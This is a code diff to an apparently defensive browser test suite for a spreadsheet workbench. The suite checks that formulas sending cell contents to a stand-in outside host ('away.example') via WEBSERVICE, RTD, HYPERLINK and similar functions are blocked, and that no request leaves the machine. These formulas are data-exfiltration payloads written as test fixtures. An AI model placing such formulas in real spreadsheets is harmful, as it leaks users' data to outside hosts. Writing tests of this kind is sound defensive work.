@@ -1238,7 +1238,6 @@ describe.skipIf(browserPath() === "")("workbench", () => {
       `WEBSERVICE("${away}"&A1)`,
       `FILTERXML(WEBSERVICE("${away}"&A1),"//a")`,
       `RTD("away.example",,A1)`,
-      `HYPERLINK("${away}"&A1,"more")`,
       `IRON.ECHO_AWAY("${away}"&A1)`,
     ];
     const before = w.outside.length;
@@ -1247,12 +1246,13 @@ describe.skipIf(browserPath() === "")("workbench", () => {
       { row: 0, column: 3, value: `<img src="${away}text">` },
       { row: 1, column: 3, value: "a link", link: `${away}link` },
       ...hostile.map((formula, row) => ({ row, column: 1, formula })),
+      { row: 1, column: 2, formula: `HYPERLINK("${away}"&A1,"more")` },
       { row: 0, column: 2, formula: "LEN(A1)" },
     ];
     await open(await writeWorkbook({ sheets: [{ name: "Gift", cells }] }));
     await w.until("Gift!C1", 6);
     const shown = (await w.values(`Gift!B1:B${hostile.length}`)).map(([cell]) => cell);
-    expect(shown).toEqual(["#NAME?", "#NAME?", "#NAME?", "#NAME?", "#NAME?", "more", "#NAME?"]);
+    expect(shown).toEqual(hostile.map(() => "#NAME?"));
     // and were some part of the grid to ask all the same, the page's policy holds
     const asked = await w.page.evaluate(async (address) => {
       const image = new Image();
@@ -1275,6 +1275,8 @@ describe.skipIf(browserPath() === "")("workbench", () => {
 
   test("nothing left this machine, nothing was complained of", () => {
     expect(w.outside).toEqual([]);
-    expect(w.problems.filter((p) => !/Applying inline style|unreadable|away\.example/.test(p) && !LEFT_OVER.test(p))).toEqual([]);
+    expect(
+      w.problems.filter((p) => !/Applying inline style|unreadable|away\.example/.test(p) && !LEFT_OVER.test(p)),
+    ).toEqual([]);
   });
 });
